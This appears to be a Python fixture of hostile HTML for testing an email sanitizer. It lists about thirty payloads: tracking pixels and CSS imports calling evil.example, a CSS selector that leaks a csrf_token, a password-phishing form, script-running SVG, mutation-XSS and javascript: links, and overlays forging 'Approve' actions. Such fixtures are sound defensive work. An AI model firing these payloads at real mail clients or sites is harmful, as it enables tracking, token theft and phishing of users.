"""Hostile HTML for mails: each would load, run, send or cover something, if it were taken as it is."""

from __future__ import annotations

AWAY = "https://evil.example"
HAZARDS = {
    "pixel": f'<img src="{AWAY}/p.gif" srcset="{AWAY}/q.gif 2x">',
    "style": f"<style>@import url({AWAY}/c.css); body {{ background: url({AWAY}/b.gif) }}</style>",
    "exfiltration": f'<style>input[name=csrf_token][value^="a"] {{ background: url({AWAY}/a) }}</style>',
    "font": f"<style>@font-face {{ font-family: x; src: url({AWAY}/x.woff) }} p {{ font-family: x }}</style>",
    "attribute": f'<p style="background:url({AWAY}/s.gif);position:fixed;inset:0">x</p>',
    "link": f'<link rel="stylesheet" href="{AWAY}/d.css"><link rel="preconnect" href="{AWAY}">',
    "prefetch": f'<link rel="dns-prefetch" href="//evil.example"><link rel="prefetch" href="{AWAY}/n">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={AWAY}/">',
    "base": f'<base href="{AWAY}/"><a href="draft">x</a>',
    "svg": f'<svg onload="document.title=1"><image href="{AWAY}/s.gif"/><use href="{AWAY}/u.svg#a"/></svg>',
    "svg script": "<svg><script>document.title='owned'</script></svg>",
    "math": '<math><mtext><mglyph><style><img src=x onerror="document.title=1"></style></mglyph></mtext></math>',
    "javascript": '<a href="javascript:document.title=1">x</a><a href="&#106;avascript:document.title=1">y</a>',
    "data": '<a href="data:text/html,<script>1</script>">x</a><iframe src="data:text/html,x"></iframe>',
    "handler": "<body onload=\"document.title='owned'\" onpageshow=\"document.title='owned'\"><p onclick=x>x</p>",
    "frame": f'<iframe src="{AWAY}/"></iframe><frameset><frame src="{AWAY}/"></frameset>',
    "srcdoc": "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    "object": f'<object data="{AWAY}/o"></object><embed src="{AWAY}/e"><applet code="{AWAY}/a"></applet>',
    "media": f'<video src="{AWAY}/v" poster="{AWAY}/p" autoplay></video><audio src="{AWAY}/a" autoplay></audio>',
    "form": f'<form action="{AWAY}/f"><input name="password" autofocus><button>Approve</button></form>',
    "own form": '<form method="post" action="/draft/acmec/approve"><button>Skip</button></form>',
    "button": '<button form="declines" formaction="/draft/acmec/approve">x</button>',
    "table": f'<table background="{AWAY}/t.gif"><td background="{AWAY}/d.gif">x</td></table>',
    "comment": f"<!--[if mso]><img src='{AWAY}/m.gif'><![endif]--><!--><img src={AWAY}/n.gif>-->",
    "unclosed": f'<img src="{AWAY}/a.gif" alt="<p>x</p>',
    "mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": f"<template><img src={AWAY}/t.gif></template>{{{{ 7*7 }}}}",
    "ping": f'<a href="/draft/acmec/skip" ping="{AWAY}/ping">x</a>',
    "portal": f'<portal src="{AWAY}/"></portal><isindex action="{AWAY}">',
    "cover": '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9"><h1>Approve</h1></div>',
}
